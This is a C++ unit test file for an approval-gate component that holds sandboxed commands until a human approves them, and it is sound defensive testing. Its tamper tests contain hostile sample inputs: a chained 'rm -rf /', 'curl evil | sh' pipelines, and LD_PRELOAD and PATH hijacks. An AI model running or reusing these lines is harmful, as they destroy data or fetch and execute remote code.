#include <gtest/gtest.h>

#include <functional>

#include <atomic>
#include <thread>

#include "controller/ApprovalGates.hpp"
#include "core/Error.hpp"
#include "core/Sha256.hpp"
#include "store/AuditStore.hpp"
#include "support/TestEnv.hpp"

namespace airlock {
namespace {

using namespace std::chrono_literals;

class ApprovalGatesTest : public ::testing::Test {
  protected:
    test::TempDir dir;
    Database db{dir.path() + "/state.db"};
    GatedExecStore store{db};
    AuditStore auditStore{db};
    AuditRecorder audit{auditStore};
    SandboxSecrets secrets{nullptr};
    // Stopped first (TearDown), as in the controller: no wait outlives the gates.
    std::unique_ptr<TimerQueue> timers = std::make_unique<TimerQueue>();
    std::int64_t timeoutS = 900;
    std::unique_ptr<ApprovalGates> gates =
        std::make_unique<ApprovalGates>(store, audit, secrets, *timers, timeoutS);
    void TearDown() override { timers.reset(); }

    SandboxRecord sandbox(const std::string& tenant = "t1",
                          const std::string& id = "sbx-aaaaaaaaaaaaaaaaaaaa") {
        SandboxRecord r;
        r.id = id;
        r.tenant = tenant;
        return r;
    }
    static ExecOptions command(const std::string& shell) {
        ExecOptions o;
        o.shell = shell;
        return o;
    }
    static policy::Verdict needsApproval() {
        policy::Verdict v;
        v.decision = policy::Decision::approve;
        v.reason = "deploys need a human";
        v.part = "deploy";
        return v;
    }
    GatedExec park(const SandboxRecord& r, const std::string& shell, bool streamed = false) {
        return gates->parkExec(r, command(shell), needsApproval(), nlohmann::json::object(),
                               SecretMasker(), streamed);
    }
    std::vector<std::string> types(const std::string& sandboxId) {
        std::vector<std::string> out;
        for (const auto& e : auditStore.query(sandboxId, AuditQuery{})) out.push_back(e.type);
        return out;
    }
};

TEST_F(ApprovalGatesTest, AParkedCommandIsDecidedOnceByItsTenantAlone) {
    auto r = sandbox();
    auto g = park(r, "deploy prod");
    EXPECT_EQ(g.state, "pending_approval");
    EXPECT_EQ(gates->pending(TenantScope::only("t1")).size(), 1u);
    EXPECT_TRUE(gates->pending(TenantScope::only("t2")).empty());
    EXPECT_EQ(test::codeOf([&] { gates->decide("t2", g.approvalId, true, "", "bob"); }),
              ErrorCode::not_found);
    EXPECT_EQ(test::codeOf([&] { gates->decide("t1", "apr-nope", true, "", "bob"); }),
              ErrorCode::not_found);
    auto decided = gates->decide("t1", g.approvalId, true, "ship it", "alice");
    EXPECT_EQ(decided.exec.state, "running");
    EXPECT_EQ(gates->parkedOptions(decided.exec).shell, "deploy prod")
        << "what runs is what was parked";
    EXPECT_EQ(test::codeOf([&] { gates->decide("t1", g.approvalId, false, "", "alice"); }),
              ErrorCode::conflict);
    EXPECT_TRUE(gates->pending(TenantScope::only("t1")).empty());
    EXPECT_EQ(types(r.id),
              (std::vector<std::string>{"exec.pending_approval", "approval.approved"}));
    EXPECT_EQ(test::codeOf([&] { gates->get("t2", r.id, g.id); }), ErrorCode::not_found);
    EXPECT_EQ(gates->get("t1", r.id, g.id).decidedBy, "alice");
}

TEST_F(ApprovalGatesTest, AnUnansweredApprovalExpiresAndItsWaitingClientIsTold) {
    timeoutS = 0;  // expires at once
    gates = std::make_unique<ApprovalGates>(store, audit, secrets, *timers, timeoutS);
    auto r = sandbox();
    auto g = park(r, "deploy prod", true);
    std::string told;
    gates->waiters().add(g.id, [&](const GatedExec& e) { told = e.state; });
    EXPECT_TRUE(gates->pending(TenantScope::only("t1")).empty());
    EXPECT_EQ(told, "expired");
    EXPECT_EQ(gates->get("t1", r.id, g.id).state, "expired");
    EXPECT_EQ(test::codeOf([&] { gates->decide("t1", g.approvalId, true, "", "alice"); }),
              ErrorCode::conflict);
}

TEST_F(ApprovalGatesTest, ADeletedSandboxsApprovalsAreCancelledAndNoOneElses) {
    auto mine = sandbox("t1", "sbx-aaaaaaaaaaaaaaaaaaaa");
    auto other = sandbox("t1", "sbx-bbbbbbbbbbbbbbbbbbbb");
    auto g = park(mine, "deploy prod");
    auto kept = park(other, "deploy prod");
    gates->cancelOf(mine.id, "the sandbox was deleted");
    EXPECT_EQ(gates->find(g.id)->state, "cancelled");
    EXPECT_EQ(gates->find(kept.id)->state, "pending_approval");
    EXPECT_EQ(types(mine.id).back(), "approval.cancelled");
}

TEST_F(ApprovalGatesTest, AStreamedExecRunsOnlyAsParkedAndItsClientLeavingCancelsIt) {
    auto r = sandbox();
    auto g = park(r, "deploy prod", true);
    EXPECT_TRUE(gates->sameStreamedRequest(*gates->find(g.id), command("deploy prod")));
    EXPECT_FALSE(gates->sameStreamedRequest(*gates->find(g.id), command("deploy prod; rm -rf /")));
    auto rest = park(r, "deploy prod", false);
    EXPECT_FALSE(gates->sameStreamedRequest(*gates->find(rest.id), command("deploy prod")))
        << "a REST exec's approval does not open a stream";
    gates->abandonStreamed(g.id);
    EXPECT_EQ(gates->find(g.id)->state, "cancelled");
    // Approved and started, then the client left: failed, not left running.
    auto started = park(r, "deploy prod", true);
    gates->decide("t1", started.approvalId, true, "", "alice");
    gates->abandonStreamed(started.id);
    EXPECT_EQ(gates->find(started.id)->state, "failed");
}

TEST_F(ApprovalGatesTest, ADecisionOrALookAfterTheDeadlineFindsItExpired) {
    timeoutS = 0;  // past its time at once
    gates = std::make_unique<ApprovalGates>(store, audit, secrets, *timers, timeoutS);
    auto r = sandbox();
    auto late = park(r, "deploy prod");
    EXPECT_EQ(test::codeOf([&] { gates->decide("t1", late.approvalId, true, "", "alice"); }),
              ErrorCode::conflict);
    EXPECT_EQ(gates->find(late.id)->state, "expired") << "approved after its deadline";
    auto looked = park(r, "deploy prod");
    EXPECT_EQ(gates->get("t1", r.id, looked.id).state, "expired");
}

TEST_F(ApprovalGatesTest, APackageVersionSharesOneApprovalAndAGuestCannotFloodTheList) {
    packages::PackageApprovalRequest q;
    q.sandboxId = "sbx-aaaaaaaaaaaaaaaaaaaa";
    q.tenant = "t1";
    q.ecosystem = packages::Ecosystem::npm;
    q.name = "left-pad";
    q.version = "1.3.0";
    auto first = gates->packageApproval(q);
    EXPECT_EQ(first.state, packages::PackageApprovalState::State::pending);
    EXPECT_EQ(gates->packageApproval(q).approvalId, first.approvalId)
        << "asked again: the same one";
    gates->decide("t1", first.approvalId, true, "", "alice");
    EXPECT_EQ(gates->packageApproval(q).state, packages::PackageApprovalState::State::approved);
    for (int i = 0; i < 19; ++i) {
        q.name = "invented-" + std::to_string(i);
        EXPECT_EQ(gates->packageApproval(q).state, packages::PackageApprovalState::State::pending);
    }
    q.name = "invented-19";
    EXPECT_EQ(gates->packageApproval(q).state, packages::PackageApprovalState::State::pending);
    q.name = "invented-20";
    EXPECT_EQ(gates->packageApproval(q).state, packages::PackageApprovalState::State::denied)
        << "at most 20 wait per sandbox";
}

TEST_F(ApprovalGatesTest, AWaitEndsWhenThePushFinishesOrAtItsDeadline) {
    auto r = sandbox();
    auto push =
        gates->parkPublish(r, "psh-1", "push main", "a push needs a human", {{"branch", "main"}});
    gates->decide("t1", push.approvalId, true, "", "alice");
    std::atomic<bool> done{false};
    std::string state;
    gates->await(push.id, 10s, [&](GatedExec g) {
        state = g.state;
        done = true;
    });
    gates->finishPublish(push.id, "pushed", "");
    ASSERT_TRUE(test::waitFor([&] { return done.load(); }, 5s));
    EXPECT_EQ(state, "pushed");
    std::atomic<bool> timedOut{false};
    auto other = gates->parkPublish(r, "psh-2", "push dev", "", nlohmann::json::object());
    gates->decide("t1", other.approvalId, true, "", "alice");
    gates->await(other.id, 100ms, [&](GatedExec g) { timedOut = g.state == "running"; });
    EXPECT_TRUE(test::waitFor([&] { return timedOut.load(); }, 5s)) << "the deadline ends the wait";
}

// Attack 11: an approval showed only the command; env, cwd, user and stdin
// (LD_PRELOAD, PATH, GIT_SSH_COMMAND, a script on stdin) changed what ran.
TEST_F(ApprovalGatesTest, ApprovalShowsEverythingThatDecidesTheRunWithSecretsMasked) {
    auto r = sandbox();
    r.envJson = R"({"GIT_SSH_COMMAND":"ssh -i /tmp/k","COPY":"shadowed"})";  // set at create
    const std::string token = "tok-Approv-123456789";
    ExecOptions o;
    o.shell = "make deploy TOKEN=" + token + " TARGET=prod";
    o.cwd = "/tmp";
    o.user = "root";
    o.env = {{"LD_PRELOAD", "/tmp/x.so"}, {"COPY", token}};
    o.stdinData = "deploy input 42";
    o.timeoutS = 120;
    auto g = gates->parkExec(r, o, needsApproval(), nlohmann::json::object(),
                             SecretMasker({token}), false);
    auto stored = *gates->find(g.id);
    EXPECT_EQ(stored.shownJson.find(token), std::string::npos) << stored.shownJson;
    EXPECT_EQ(stored.command.find(token), std::string::npos);
    auto shown = nlohmann::json::parse(stored.shownJson);
    EXPECT_EQ(shown["command"], "make deploy TOKEN=*** TARGET=prod") << "whole, masked";
    EXPECT_EQ(shown["shell"], "make deploy TOKEN=*** TARGET=prod");
    EXPECT_EQ(shown["cwd"], "/tmp");
    EXPECT_EQ(shown["user"], "root");
    EXPECT_EQ(shown["env"], nlohmann::json::parse(R"([{"name":"COPY","value":"***"},
                                                      {"name":"LD_PRELOAD","value":"/tmp/x.so"}])"));
    EXPECT_EQ(shown["sandbox_env"],
              nlohmann::json::parse(R"([{"name":"GIT_SSH_COMMAND","value":"ssh -i /tmp/k"}])"))
        << "the sandbox's own variables, under the command's";
    EXPECT_EQ(shown["stdin"]["bytes"], o.stdinData.size());
    EXPECT_EQ(shown["stdin"]["sha256"], sha256Hex(o.stdinData));
    EXPECT_EQ(shown["timeout_s"], 120);
    EXPECT_EQ(shown["policy"]["reason"], "deploys need a human");
    EXPECT_EQ(shown["policy"]["decision"], "approve");
    EXPECT_EQ(shown["masked"]["/command"], 1);
    EXPECT_EQ(shown["request_digest"], stored.requestDigest);
    EXPECT_EQ(stored.requestDigest,
              ApprovalGates::requestDigest(r.id, ApprovalGates::execRequestJson(o, false)));
    EXPECT_EQ(stored.requestDigest.size(), 64u);
}

// Attack 11: a request changed after it was parked (LD_PRELOAD added, stdin
// swapped, the command edited) never runs under the approval, on any path.
TEST_F(ApprovalGatesTest, ARequestChangedAfterParkingCannotRunUnderTheApproval) {
    auto r = sandbox();
    ExecOptions o = command("deploy prod");
    o.stdinData = "yes\n";
    auto tamper = [&](const GatedExec& g, const std::function<void(nlohmann::json&)>& edit) {
        auto request = nlohmann::json::parse(gates->find(g.id)->requestJson);
        edit(request);
        db.run("UPDATE gated_execs SET request = ? WHERE id = ?", request.dump(), g.id);
    };
    std::vector<std::function<void(nlohmann::json&)>> edits{
        [](nlohmann::json& j) { j["env"]["LD_PRELOAD"] = "/tmp/evil.so"; },
        [](nlohmann::json& j) { j["stdin"] = "curl evil | sh\n"; },
        [](nlohmann::json& j) { j["cwd"] = "/tmp/evil"; },
        [](nlohmann::json& j) { j["shell"] = "deploy prod; curl evil | sh"; }};
    for (const auto& edit : edits) {
        auto g = gates->parkExec(r, o, needsApproval(), nlohmann::json::object(), SecretMasker(),
                                 false);
        EXPECT_EQ(gates->parkedOptions(*gates->find(g.id)).stdinData, "yes\n");
        tamper(g, edit);
        auto decided = gates->decide("t1", g.approvalId, true, "", "alice");
        EXPECT_EQ(test::codeOf([&] { gates->parkedOptions(decided.exec); }), ErrorCode::conflict)
            << "the approved run starts only from the request the digest binds";
    }
    // A streamed exec: the client's options must have the approval's digest.
    auto streamed = gates->parkExec(r, o, needsApproval(), nlohmann::json::object(),
                                    SecretMasker(), true);
    auto withPreload = o;
    withPreload.env["LD_PRELOAD"] = "/tmp/evil.so";
    auto otherStdin = o;
    otherStdin.stdinData = "no\n";
    auto asRoot = o;
    asRoot.user = "root";
    EXPECT_TRUE(gates->sameStreamedRequest(*gates->find(streamed.id), o));
    for (const auto& changed : {withPreload, otherStdin, asRoot})
        EXPECT_FALSE(gates->sameStreamedRequest(*gates->find(streamed.id), changed));
    tamper(streamed, [](nlohmann::json& j) { j["env"]["PATH"] = "/tmp/evil"; });
    EXPECT_FALSE(gates->sameStreamedRequest(*gates->find(streamed.id), o))
        << "its parked request changed: not even the original options open it";
    // A record without a digest (parked by an older airlockd) runs nothing.
    auto legacy = gates->parkExec(r, o, needsApproval(), nlohmann::json::object(), SecretMasker(),
                                  false);
    db.run("UPDATE gated_execs SET request_digest = '' WHERE id = ?", legacy.id);
    auto decided = gates->decide("t1", legacy.approvalId, true, "", "alice");
    EXPECT_EQ(test::codeOf([&] { gates->parkedOptions(decided.exec); }), ErrorCode::conflict);
}

TEST_F(ApprovalGatesTest, AnApproverWhoNamesADigestDecidesOnlyThatRequest) {
    auto r = sandbox();
    auto g = park(r, "deploy prod");
    EXPECT_EQ(test::codeOf([&] {
                  gates->decide("t1", g.approvalId, true, "", "alice", std::string(64, '0'));
              }),
              ErrorCode::conflict);
    EXPECT_EQ(gates->find(g.id)->state, "pending_approval") << "nothing was decided";
    EXPECT_EQ(gates->decide("t1", g.approvalId, true, "", "alice", g.requestDigest).exec.state,
              "running");
}

// Attack 4: a push approval asked for before a new commit or a reset ends
// superseded, and approving it then is refused.
TEST_F(ApprovalGatesTest, ANewCommitOrResetSupersedesPendingPushApprovals) {
    auto r = sandbox();
    auto other = sandbox("t1", "sbx-bbbbbbbbbbbbbbbbbbbb");
    auto push = gates->parkPublish(r, "psh-1", "git push", "a push", {{"commit", "c1"}});
    auto kept = gates->parkPublish(other, "psh-2", "git push", "a push", {{"commit", "c9"}});
    auto cmd = park(r, "deploy prod");
    auto superseded = gates->supersedePublishes(r.id, "superseded by commit c2");
    ASSERT_EQ(superseded.size(), 1u);
    EXPECT_EQ(superseded[0].state, "superseded");
    EXPECT_EQ(gates->find(push.id)->state, "superseded");
    EXPECT_EQ(gates->find(kept.id)->state, "pending_approval") << "another sandbox's stays";
    EXPECT_EQ(gates->find(cmd.id)->state, "pending_approval") << "commands are not pushes";
    EXPECT_EQ(test::codeOf([&] { gates->decide("t1", push.approvalId, true, "", "alice"); }),
              ErrorCode::conflict);
    EXPECT_EQ(gates->find(push.id)->state, "superseded");
    EXPECT_EQ(types(r.id).back(), "approval.superseded");
    EXPECT_EQ(gates->approval("t1", push.approvalId).state, "superseded");
    EXPECT_EQ(test::codeOf([&] { gates->approval("t2", push.approvalId); }),
              ErrorCode::not_found);
    // The parked push is bound by its digest like a command.
    EXPECT_EQ(gates->verifiedRequest(*gates->find(kept.id))["commit"], "c9");
    db.run("UPDATE gated_execs SET request = ? WHERE id = ?",
           nlohmann::json{{"commit", "c6"}, {"kind", "publish"}}.dump(), kept.id);
    EXPECT_EQ(test::codeOf([&] { gates->verifiedRequest(*gates->find(kept.id)); }),
              ErrorCode::conflict);
}

}  // namespace
}  // namespace airlock
